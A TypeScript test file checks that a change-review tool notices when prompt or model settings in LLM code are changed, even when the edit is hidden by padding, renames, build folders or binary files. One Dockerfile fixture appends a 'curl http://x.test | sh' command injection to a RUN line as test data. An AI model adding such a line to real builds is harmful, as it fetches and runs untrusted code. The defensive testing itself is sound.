import { describe, expect, test, vi } from 'vitest';
import { noLanes } from '../../../src/domain/changes/declared-lane.js';
import { detectChanges } from '../../../src/domain/changes/detect-changes.js';
import { inOrder } from '../../../src/domain/changes/lane.js';
import { processorMs } from '../../fixtures/processor-time.js';
import {
  changesBetween,
  lanesBetween,
  lanesOfEdit,
  nothingDeclared,
  parseSource,
} from '../../fixtures/source-change.js';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

const bot = `from openai import OpenAI
client = OpenAI()
SYSTEM_PROMPT = "You are a kind support agent. Always answer politely and briefly."
def answer(q):
    return client.chat.completions.create(model="gpt-4o", temperature=0.2,
        messages=[{"role": "system", "content": SYSTEM_PROMPT}, {"role": "user", "content": q}])
`;
const evil = bot.replace('kind', 'rude').replace('gpt-4o', 'gpt-3.5-turbo').replace('0.2', '1.9');

const lanesOfRename = (path: string, text: string): string[] => {
  const pair = {
    basePath: 'app/bot.py',
    headPath: path,
    base: { kind: 'text', text: bot },
    head: { kind: 'text', text },
  } as const;
  const reading = { base: nothingDeclared, head: nothingDeclared, lanes: noLanes, parse: parseSource };
  return inOrder(detectChanges([pair], reading).map(({ lane }) => lane));
};

describe('a change cannot hide a prompt', () => {
  test.each([
    ['behind a marker of the whole file', 'app/bot.py', `# lanegate-file: code\n${evil}`],
    ['in a file that is too long', 'app/bot.py', `${evil}${'#'.repeat(300_000)}`],
    ['among tests', 'tests/bot.py', evil],
    ['among built files', 'dist/bot.py', evil],
    ['in a language without a parser', 'app/bot.kt', evil],
  ])('%s', (_, path, text) => {
    expect(lanesOfRename(path, text)).toEqual(expect.arrayContaining(['prompt', 'model']));
  });

  test('in a file that is no text any more', () => {
    const pair = {
      basePath: 'app/bot.py',
      headPath: 'app/bot.py',
      base: { kind: 'text', text: bot },
      head: { kind: 'unreadable', reason: 'it is not text' },
    } as const;
    const reading = { base: nothingDeclared, head: nothingDeclared, lanes: noLanes, parse: parseSource };
    expect(inOrder(detectChanges([pair], reading).map(({ lane }) => lane))).toEqual(['prompt', 'model', 'code']);
  });

  test('by swapping what two names stand for', () => {
    const base = 'llm:\n  chat_model: gpt-4o\n  title_model: gpt-4o-mini\n';
    const head = 'llm:\n  chat_llm: gpt-4o-mini\n  title_llm: gpt-4o\n';
    expect(lanesBetween('config/llm.yaml', base, head)).toEqual(['model']);
    const prompts =
      'SUPPORT_PROMPT = "Be kind to everybody who asks."\nCOLLECT_PROMPT = "Insist on payment at once, please."\n';
    const swapped =
      'HELP_PROMPT = "Insist on payment at once, please."\nDEBT_PROMPT = "Be kind to everybody who asks."\n';
    expect(lanesBetween('app/texts.py', prompts, swapped)).toContain('prompt');
  });

  test('inside of what is printed', () => {
    const text =
      'import openai\nprint(client.responses.create(model="gpt-4o", instructions="You are kind. Be brief.").output_text)\n';
    expect(lanesOfEdit('app/a.py', text, 'kind', 'rude')).toEqual(['prompt']);
    expect(lanesOfEdit('app/a.py', text, 'gpt-4o', 'gpt-4.1')).toEqual(['model']);
  });
});

describe('a change cannot hide a model', () => {
  test.each([
    [
      'in a builder',
      'src/A.java',
      'import dev.langchain4j.model.X;\nclass A { Object m = B.builder().temperature(0.2).build(); }',
      '0.2',
      '1.9',
    ],
    ['in a builder of Rust', 'src/a.rs', 'use async_openai::X;\nfn a() { b.with_temperature(0.2); }', '0.2', '1.9'],
    [
      'in a constant of a library',
      'a/b.go',
      'package b\nimport openai "github.com/openai/openai-go"\nvar p = X{Model: openai.ChatModelGPT4o}',
      'GPT4o',
      'GPT3_5Turbo',
    ],
    ['behind an anchor', 'config/llm.yaml', 'x: &t 0.2\nllm:\n  model: gpt-4o\n  temperature: *t\n', '0.2', '1.9'],
    [
      'in a file whose name has an eval in it',
      'config/retrieval_settings.yaml',
      'llm:\n  model: gpt-4o\n',
      'gpt-4o',
      'gpt-4.1',
    ],
    [
      'in a folder of the source that is called build',
      'src/build/agent.ts',
      "import 'openai';\nconst a = { model: 'gpt-4o' };",
      'gpt-4o',
      'gpt-4.1',
    ],
  ] as const)('%s', (...[, path, text, from, to]) => {
    expect(lanesOfEdit(path, text, from, to)).toContain('model');
  });

  test('nor code behind one', () => {
    expect(
      lanesOfEdit('Dockerfile', 'FROM a\nRUN ollama pull llama3:8b\n', '3:8b', '3:8b && curl http://x.test | sh'),
    ).toContain('code');
    const base = 'app.name=x\n';
    expect(lanesBetween('application.properties', base, `${base}app.model=gpt-4o\napp.bypass=true\n`)).toContain(
      'code',
    );
  });
});

describe('no text crashes or stops the reader', () => {
  const spread = Array.from({ length: 9000 }, (_, index) => 9000 - index);
  test.each<[string, string, string, string]>([
    ['names of models in a row', 'a.py', 'x = 1\n', `y = "${'llm'.repeat(60_000)}"\n`],
    ['prompts of one function', 'a.baml', 'x', `function A() -> string {\n${'prompt "a"\n'.repeat(25_000)}}`],
    [
      'lines that part one by one',
      'a.py',
      spread.map((n) => `v_${n}, x\n`).join(''),
      spread.map((n) => `v_${n}, y\n`).join(''),
    ],
    ['nested templates', 'a.js', 'x', `${'`a ${'.repeat(390)}"${'word '.repeat(50_000)}"${'}`'.repeat(390)}`],
    ['scripts that never end', 'a.vue', 'x', '<script>'.repeat(37_000)],
    ['one long line', 'a.js', 'x', `const PART = "some words of it"; ${'PART + '.repeat(25_000)}1`],
  ])('%s', (...[, path, base, head]) => {
    const started = processorMs();
    expect(changesBetween({ [path]: base }, { [path]: head })).not.toHaveLength(0);
    // Generous, because machines are noisy: what this is about took minutes.
    expect(processorMs() - started).toBeLessThan(8000);
  });
});
